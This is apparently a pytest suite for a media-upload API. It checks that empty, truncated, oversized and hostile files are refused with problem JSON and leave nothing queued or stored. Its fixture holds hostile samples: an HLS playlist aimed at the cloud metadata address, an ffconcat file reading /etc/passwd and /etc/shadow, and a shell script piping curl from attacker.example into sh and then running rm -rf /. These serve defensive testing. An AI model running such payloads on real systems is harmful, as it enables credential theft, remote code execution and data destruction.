"""Hostile and unusable uploads (API.md "Subjects", "Renders", "Uploads"): every bad file is refused with
4xx problem JSON carrying a stable ``code``, whichever way it comes in (a multipart part, or a presigned
upload PUT to the API's own storage route and then named by ``upload_id``), and nothing is queued: no
subject or render row, no task on the embedded broker, and (direct uploads) nothing left in storage.
A good file, by contrast, creates its row and sends exactly one task, so every check here can fail."""

from __future__ import annotations

import re
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from api_helpers import Api, make_api
from sqlalchemy import func, select, update

from gpu_worker.media.binaries import ffmpeg_exe
from shared.db.models import Render, Subject, Upload
from shared.jobs import keys, lifecycle
from shared.queue.stages import QUEUES

PROBLEM = "application/problem+json"
MIN_TRAIN_S = 2
LEAKS = re.compile(r"Traceback|File \"|/tmp/|synctalk-upload-|\.py\b|site-packages")


# --- media made with ffmpeg's lavfi sources -----------------------------------------------------------
def _ffmpeg(out: Path, *args: str) -> bytes:
    subprocess.run([ffmpeg_exe(), "-v", "error", "-y", "-nostdin", *args, str(out)], check=True, timeout=60)
    return out.read_bytes()


def _video(seconds: float) -> list[str]:
    return ["-f", "lavfi", "-i", f"testsrc=size=64x48:rate=25:duration={seconds}"]


def _sine(seconds: float) -> list[str]:
    return ["-f", "lavfi", "-i", f"sine=frequency=440:sample_rate=16000:duration={seconds}"]


H264 = ["-c:v", "libx264", "-pix_fmt", "yuv420p", "-preset", "ultrafast"]


@pytest.fixture(scope="module")
def media(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    d = tmp_path_factory.mktemp("upload-media")
    good = _ffmpeg(d / "good.mp4", *_video(3), *_sine(3), *H264, "-c:a", "aac", "-shortest")
    speech = _ffmpeg(d / "speech.m4a", *_sine(3), "-c:a", "aac")
    return {
        "good_video": good,
        "speech": speech,
        "silent_video": _ffmpeg(d / "silent.mp4", *_video(3), *H264),
        "short_video": _ffmpeg(d / "short.mp4", *_video(1), *_sine(1), *H264, "-c:a", "aac", "-shortest"),
        "cut_video": good[: len(good) // 2],
        "cut_audio": speech[: len(speech) // 2],
        "empty": b"",
        "text": b"Meeting notes\n- dub the keynote into French\n- ship on Friday\n",
        # hostile files named like media: the content decides, never the name
        "hls": b"#EXTM3U\n#EXT-X-VERSION:3\n#EXTINF:2.0,\nhttp://169.254.169.254/latest/meta-data\n",
        "ffconcat": b"ffconcat version 1.0\nfile '/etc/passwd'\nfile 'file:/etc/shadow'\n",
        "shell": b"#!/bin/sh\ncurl -s http://attacker.example/x | sh\nrm -rf /\n",
    }


@dataclass(frozen=True)
class Case:
    id: str
    filename: str
    media: str  # key of the ``media`` fixture
    code: str
    status: int = 422


SUBJECT_CASES = [
    Case("empty", "talk.mp4", "empty", "empty_file"),
    Case("text", "notes.txt", "text", "not_media"),
    Case("truncated_mp4", "talk.mp4", "cut_video", "truncated"),
    Case("video_without_audio", "silent.mp4", "silent_video", "no_audio_stream"),
    Case("audio_only", "speech.m4a", "speech", "no_video_stream"),
    Case("shorter_than_min_train", "short.mp4", "short_video", "clip_too_short"),
    Case("hls_playlist", "talk.mp4", "hls", "unsafe_media"),
    Case("ffconcat_script", "talk.mp4", "ffconcat", "unsafe_media"),
    Case("shell_script", "talk.mp4", "shell", "not_media"),
]
RENDER_CASES = [
    Case("empty", "speech.wav", "empty", "empty_file"),
    Case("text", "speech.txt", "text", "not_media"),
    Case("truncated_m4a", "speech.m4a", "cut_audio", "truncated"),
    Case("video_without_audio", "silent.mp4", "silent_video", "no_audio_stream"),
    Case("hls_playlist", "speech.m4a", "hls", "unsafe_media"),
    Case("ffconcat_script", "speech.m4a", "ffconcat", "unsafe_media"),
    Case("shell_script", "speech.m4a", "shell", "not_media"),
]


# --- the platform's state: rows, broker, storage ------------------------------------------------------
def queued(api: Api) -> int:
    """Tasks waiting on the embedded broker, over every queue."""
    total = 0
    with api.platform.celery.connection_for_write() as conn:
        for q in QUEUES:
            channel = conn.channel()
            try:
                total += channel.queue_declare(queue=q, passive=True).message_count
            finally:
                channel.close()
    return total


def count(api: Api, model) -> int:
    with api.platform.sessions() as s:
        return s.scalar(select(func.count()).select_from(model))


def stored(api: Api) -> list[str]:
    """Every object in storage, and every file (temporary ones included) under the storage folder."""
    root = Path(api.settings.storage_url.removeprefix("file://"))
    files = [p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()] if root.exists() else []
    return sorted(set(api.platform.storage.list("")) | set(files))


def assert_problem(r, status: int, code: str) -> dict:
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith(PROBLEM), r.headers
    body = r.json()
    assert body["status"] == status and body["code"] == code, body
    assert body["type"] and body["title"]
    detail = body["detail"]
    assert isinstance(detail, str) and len(detail) > 15 and "\n" not in detail, body
    assert not LEAKS.search(r.text), f"the answer leaks internals: {r.text}"
    return body


# --- fixtures -----------------------------------------------------------------------------------------
@pytest.fixture
def api(tmp_path: Path) -> Iterator[Api]:
    made = make_api(tmp_path, min_train_seconds=MIN_TRAIN_S, default_profile="tiny")
    yield made
    made.close()


def ready_subject(api: Api) -> str:
    """A subject whose training succeeded (set in the database: this tests the API, not the workers)."""
    with api.platform.sessions() as s:
        subject, _ = lifecycle.create_subject(s, api.tenant_id, name="anna", profile="tiny")
        s.flush()
        s.execute(update(Subject).where(Subject.id == subject.id).values(status="succeeded", progress=1.0))
        s.commit()
        return subject.id


def presigned(api: Api, filename: str, data: bytes, content_type: str = "application/octet-stream") -> str:
    """POST /v1/uploads, then PUT the bytes to the URL it gave (the API's own /storage route): the id."""
    client = api.client()
    r = client.post(
        "/v1/uploads", json={"filename": filename, "content_type": content_type, "bytes": max(1, len(data))}
    )
    assert r.status_code == 201, r.text
    upload = r.json()
    assert upload["method"] == "PUT" and "/storage/" in upload["url"]
    put = client.put(upload["url"], content=data, headers=upload["headers"])
    assert put.status_code == 200, put.text
    return upload["id"]


def submit(api: Api, target: str, way: str, filename: str, data: bytes):
    """Send a file to ``target`` ("subject" or "render": a new render of a succeeded subject) the ``way``
    given ("direct" multipart or "presigned"). Returns (response, the presigned upload's key or None)."""
    client = api.client()
    path, part = "/v1/subjects", "video"
    if target == "render":
        path, part = f"/v1/subjects/{ready_subject(api)}/renders", "audio"
    if way == "direct":
        return client.post(path, files={part: (filename, data, "application/octet-stream")}), None
    upload_id = presigned(api, filename, data)
    return client.post(path, json={"upload_id": upload_id}), keys.upload_key(api.tenant_id, upload_id)


def assert_nothing_queued(api: Api, upload_key: str | None) -> None:
    assert queued(api) == 0, "a refused upload sent a task"
    assert count(api, Render) == 0, "a refused upload created a render"
    # direct: nothing stored at all; presigned: only the bytes the client PUT, nothing else
    assert stored(api) == ([upload_key] if upload_key else []), stored(api)


def _code(case: Case, way: str) -> str:
    """An empty presigned upload is one whose PUT carried fewer bytes than announced (at least 1)."""
    return "upload_incomplete" if way == "presigned" and case.media == "empty" else case.code


# --- refused: every bad file, both ways in ------------------------------------------------------------
@pytest.mark.parametrize("way", ["direct", "presigned"])
@pytest.mark.parametrize("case", SUBJECT_CASES, ids=[c.id for c in SUBJECT_CASES])
def test_a_bad_subject_video_is_refused_and_queues_nothing(api, media, case: Case, way: str):
    r, upload_key = submit(api, "subject", way, case.filename, media[case.media])
    assert_problem(r, case.status, _code(case, way))
    assert "location" not in r.headers
    assert count(api, Subject) == 0, "a refused upload created a subject"
    assert_nothing_queued(api, upload_key)
    if way == "direct":
        assert count(api, Upload) == 0  # the upload record went with the refused request


@pytest.mark.parametrize("way", ["direct", "presigned"])
@pytest.mark.parametrize("case", RENDER_CASES, ids=[c.id for c in RENDER_CASES])
def test_a_bad_speech_track_is_refused_and_queues_nothing(api, media, case: Case, way: str):
    r, upload_key = submit(api, "render", way, case.filename, media[case.media])
    assert_problem(r, case.status, _code(case, way))
    assert count(api, Subject) == 1  # only the succeeded subject the render was for
    assert_nothing_queued(api, upload_key)


@pytest.mark.parametrize("way", ["direct", "presigned"])
@pytest.mark.parametrize("target", ["subject", "render"])
def test_a_good_file_creates_its_row_and_sends_exactly_one_task(api, media, target: str, way: str):
    """The control: the same path with a usable file does queue (so the checks above can fail)."""
    data, name = (media["good_video"], "talk.mp4") if target == "subject" else (media["speech"], "speech.m4a")
    r, upload_key = submit(api, target, way, name, data)
    assert r.status_code == 202, r.text
    body = r.json()
    assert body["status"] == "queued" and r.headers["location"] == f"/v1/{target}s/{body['id']}"
    assert count(api, Subject) == 1 and count(api, Render) == (target == "render")
    assert queued(api) == 1
    with api.platform.sessions() as s:
        upload = s.scalars(select(Upload)).one()
        assert upload.status == "received" and upload.probe["audio"] is not None
        assert stored(api) == [upload.storage_key]  # the file is kept for the workers
        if upload_key is not None:
            assert upload.storage_key == upload_key


def test_an_upload_named_before_its_bytes_arrived_is_refused(api):
    r = api.client().post(
        "/v1/uploads", json={"filename": "talk.mp4", "content_type": "video/mp4", "bytes": 1000}
    )
    assert r.status_code == 201
    r = api.client().post("/v1/subjects", json={"upload_id": r.json()["id"]})
    assert_problem(r, 422, "upload_incomplete")
    assert count(api, Subject) == 0 and queued(api) == 0


def test_an_upload_refused_for_a_subject_stays_usable_as_speech(api, media):
    """no_video_stream and clip_too_short are about the use, not the file: the same upload still makes a
    render (and is refused for a subject again, with the same code)."""
    for data, code in ((media["speech"], "no_video_stream"), (media["short_video"], "clip_too_short")):
        upload_id = presigned(api, "speech.m4a", data)
        client = api.client()
        assert_problem(client.post("/v1/subjects", json={"upload_id": upload_id}), 422, code)
        assert_problem(client.post("/v1/subjects", json={"upload_id": upload_id}), 422, code)
        subject_id = ready_subject(api)
        r = client.post(f"/v1/subjects/{subject_id}/renders", json={"upload_id": upload_id})
        assert r.status_code == 202, r.text
    assert queued(api) == 2


def test_a_refused_upload_stays_refused(api, media):
    """A file that is no media at all is refused for every use, without probing it again."""
    upload_id = presigned(api, "talk.mp4", media["hls"])
    client = api.client()
    assert_problem(client.post("/v1/subjects", json={"upload_id": upload_id}), 422, "unsafe_media")
    subject_id = ready_subject(api)
    r = client.post(f"/v1/subjects/{subject_id}/renders", json={"upload_id": upload_id})
    assert_problem(r, 422, "upload_refused")
    assert count(api, Render) == 0 and queued(api) == 0


# --- too large, wrong type ------------------------------------------------------------------------------
@pytest.mark.parametrize("declared", [True, False], ids=["within_content_length", "over_content_length"])
def test_a_direct_upload_over_the_limit_is_413(tmp_path, media, declared: bool):
    """Over ``direct_upload_max_bytes``: refused while streaming (the body is within a MB of the limit,
    so Content-Length alone cannot tell), or at once from Content-Length (a body far over it)."""
    video = media["good_video"]
    api = make_api(tmp_path, min_train_seconds=MIN_TRAIN_S, default_profile="tiny",
                   direct_upload_max_bytes=len(video) - 1)  # fmt: skip
    try:
        data = video if declared else video + b"\0" * (2 << 20)
        r = api.client().post("/v1/subjects", files={"video": ("talk.mp4", data, "video/mp4")})
        body = assert_problem(r, 413, "file_too_large")
        assert "/v1/uploads" in body["detail"] or "MB" in body["detail"]
        assert count(api, Subject) == 0 and count(api, Upload) == 0
        assert queued(api) == 0 and stored(api) == []
    finally:
        api.close()


@pytest.mark.parametrize("route", ["/v1/subjects", "/v1/uploads/files"])
def test_a_chunked_body_without_a_length_is_cut_off_at_the_limit(tmp_path, monkeypatch, route: str):
    """A chunked request announces no Content-Length: the body is counted as it arrives and refused with
    413 once over the limit (1 MB here), before the form parser has spooled it to disk; nothing is
    created or stored."""
    import starlette.formparsers

    from services.api.routers import uploads

    spooled = [0]

    class Spool(starlette.formparsers.SpooledTemporaryFile):  # counts what the form parser writes
        def write(self, data):
            spooled[0] += len(data)
            return super().write(data)

    monkeypatch.setattr(starlette.formparsers, "SpooledTemporaryFile", Spool)
    monkeypatch.setattr(uploads, "INLINE_CALL_MAX", 1 << 20)
    api = make_api(tmp_path, direct_upload_max_bytes=1 << 20)
    field = "video" if route == "/v1/subjects" else "file"

    def body():  # 40 MB of form in 64 KB chunks: httpx sends a generator chunked, with no length
        yield f'--b\r\nContent-Disposition: form-data; name="{field}"; filename="t.mp4"\r\n\r\n'.encode()
        for _ in range(640):
            yield b"\0" * 65536
        yield b"\r\n--b--\r\n"

    try:
        r = api.client().post(
            route, content=body(), headers={"Content-Type": "multipart/form-data; boundary=b"}
        )
        assert "content-length" not in r.request.headers
        assert_problem(r, 413, "file_too_large")
        assert spooled[0] <= 2 << 20, f"{spooled[0]} bytes spooled to disk for a 1 MB limit"
        assert count(api, Upload) == 0 and stored(api) == []
    finally:
        api.close()


def test_an_upload_declared_over_media_max_bytes_is_413(tmp_path):
    api = make_api(tmp_path, media_max_bytes=10_000_000)
    try:
        r = api.client().post(
            "/v1/uploads", json={"filename": "talk.mp4", "content_type": "video/mp4", "bytes": 10_000_001}
        )
        assert_problem(r, 413, "file_too_large")
        ok = api.client().post(
            "/v1/uploads", json={"filename": "talk.mp4", "content_type": "video/mp4", "bytes": 10_000_000}
        )
        assert ok.status_code == 201
        assert count(api, Upload) == 1  # only the one within the limit
    finally:
        api.close()


@pytest.mark.parametrize(
    "content_type", ["text/plain", "application/x-sh", "application/vnd.apple.mpegurl", "image/png"]
)
def test_a_non_media_content_type_is_415(api, content_type: str):
    r = api.client().post(
        "/v1/uploads", json={"filename": "talk.mp4", "content_type": content_type, "bytes": 1000}
    )
    assert_problem(r, 415, "unsupported_media")
    assert count(api, Upload) == 0


@pytest.mark.parametrize("streamed", [False, True], ids=["content_length", "chunked"])
def test_a_put_carrying_more_than_declared_is_413_and_stores_nothing(api, media, streamed: bool):
    """The URL is signed for the declared size: a longer body (announced in Content-Length, or streamed
    without one) is refused and nothing is published, not even a temporary file."""
    data = media["good_video"]
    client = api.client()
    r = client.post(
        "/v1/uploads", json={"filename": "talk.mp4", "content_type": "video/mp4", "bytes": len(data) - 100}
    )
    upload = r.json()

    def chunks() -> Iterator[bytes]:
        for i in range(0, len(data), 4096):
            yield data[i : i + 4096]

    put = client.put(upload["url"], content=chunks() if streamed else data, headers=upload["headers"])
    assert_problem(put, 413, "file_too_large")
    assert stored(api) == []
    r = client.post("/v1/subjects", json={"upload_id": upload["id"]})
    assert_problem(r, 422, "upload_incomplete")
    assert count(api, Subject) == 0 and queued(api) == 0


@pytest.mark.parametrize("target", ["subject", "render"])
def test_a_good_file_with_an_invalid_field_is_refused_and_leaves_nothing_stored(api, media, target: str):
    """The fields are checked too: a usable file sent with a bad ``profile`` or ``mode`` is a 422 that
    leaves no row, no task and no stored file behind."""
    client = api.client()
    if target == "subject":
        r = client.post(
            "/v1/subjects",
            files={"video": ("talk.mp4", media["good_video"], "video/mp4")},
            data={"profile": "enormous"},
        )
    else:
        r = client.post(
            f"/v1/subjects/{ready_subject(api)}/renders",
            files={"audio": ("speech.m4a", media["speech"], "audio/mp4")},
            data={"mode": "sideways"},
        )
    body = assert_problem(r, 422, "invalid_request")
    assert ("profile" if target == "subject" else "mode") in body["detail"]
    assert count(api, Subject) == (target == "render") and count(api, Render) == 0
    assert count(api, Upload) == 0 and queued(api) == 0
    assert stored(api) == []
